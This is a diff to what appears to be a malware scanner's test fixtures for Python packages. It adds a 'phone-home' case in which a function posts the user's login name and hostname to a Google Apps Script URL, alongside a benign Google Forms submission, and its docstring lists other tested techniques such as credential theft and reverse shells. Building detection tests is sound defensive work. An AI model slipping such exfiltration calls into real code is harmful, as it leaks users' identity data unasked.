@@ -9,7 +9,7 @@ body; a key logger; credential files, the whole environment and the documents fo
 walking the user's home, the machine's cloud credentials from the metadata service, a
 keyring secret and a ``.env`` file sent from a function; a download run by ``mshta``; a shell on a
 socket's streams; Defender turned off; Discord's client injected with a download; a Slack
-token written in, the user's name sent with it; a program the wheel ships started hidden
+token written in, the user's name sent with it, or sent to a Google Apps Script; a program the wheel ships started hidden
 when the package is imported; a command built from pieces (joined, concatenated,
 formatted); build hooks hatch, pdm-backend and poetry load from the project. And what an
 sdist keeps beside its package for its developers (``scripts/``) is not judged as code it
@@ -515,6 +515,24 @@ def connect():
         headers={"Authorization": "Bearer " + os.environ["SLACK_BOT_TOKEN"]},
         json={"channel": "C01", "text": socket.gethostname() + getpass.getuser()},
     )
+""",
+    ),
+    "apps script endpoint": (
+        "phone-home",
+        """\
+import getpass, requests, socket
+
+def connect():
+    requests.post(
+        "https://script.google.com/macros/s/AKfycbx0123456789/exec",
+        data={"u": getpass.getuser(), "h": socket.gethostname()},
+    )
+""",
+        """\
+import requests
+
+def connect(answers):
+    requests.post("https://docs.google.com/forms/d/e/1FAIpQLSf0123/formResponse", data=answers)
 """,
     ),
     "mshta": (
